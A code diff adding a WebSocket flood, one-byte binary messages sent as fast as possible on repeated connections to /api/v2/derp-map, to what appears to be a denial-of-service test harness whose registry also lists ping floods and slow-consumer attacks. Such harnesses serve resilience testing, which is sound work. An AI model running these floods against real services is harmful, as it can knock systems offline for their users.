@@ -921,6 +921,28 @@ async def attack_ws_big_messages(ctx: Ctx) -> list[dict[str, Any]]:
     return rows
 
 
+async def attack_ws_tiny_messages(ctx: Ctx) -> list[dict[str, Any]]:
+    """One-byte binary messages (7 bytes on the wire) as fast as the socket takes
+    them for 5 s on /api/v2/derp-map (which drains and ignores input), never
+    reading; a new connection every 15 s."""
+    c = ctx.cfg
+    frame = ws_frame(WS_BINARY, b"t")
+    res: list[str] = []
+    total = 0
+    while ctx.left() > 8 and len(res) < 4:
+        t_round = time.time()
+        r, _ = await ws_open(ctx.port, "/api/v2/derp-map", c["v1_token"], rcvbuf=4096)
+        sent, how = await r.push(frame, limit=1 << 30, stall=2.0, until=min(ctx.deadline, time.time() + 5))
+        total += sent
+        res.append(f"{sent / 1e6:.0f} MB ({how})")
+        ctx.log("ws-tiny-messages", res[-1])
+        r.close(rst=True)
+        await asyncio.sleep(max(0.0, 15.0 - (time.time() - t_round)))
+    return [outcome("ws-tiny-messages", "/api/v2/derp-map (user token)",
+                    f"{len(res)} connections × 5 s of one-byte messages ({total / 7e6:.1f} M messages)",
+                    summarize(res, 2), None)]
+
+
 async def attack_yamux_ping_flood(ctx: Ctx) -> list[dict[str, Any]]:
     """One 4 MiB WebSocket message full of yamux pings on /api/v2/tailnet, never
     reading the pongs; again every 10 s on a new connection (each is one
@@ -1809,6 +1831,7 @@ async def attack_derp_tiny_frames(ctx: Ctx) -> list[dict[str, Any]]:
 ATTACKS: dict[str, tuple[str, Callable[[Ctx], Awaitable[list[dict[str, Any]]]]]] = {
     "ws-ping-flood": ("api", attack_ws_ping_flood),
     "ws-big-messages": ("api", attack_ws_big_messages),
+    "ws-tiny-messages": ("api", attack_ws_tiny_messages),
     "yamux-ping-flood": ("api", attack_yamux_ping_flood),
     "slow-consumers-grpc": ("api", attack_slow_consumers_grpc),
     "slow-consumers-drpc": ("api", attack_slow_consumers_drpc),
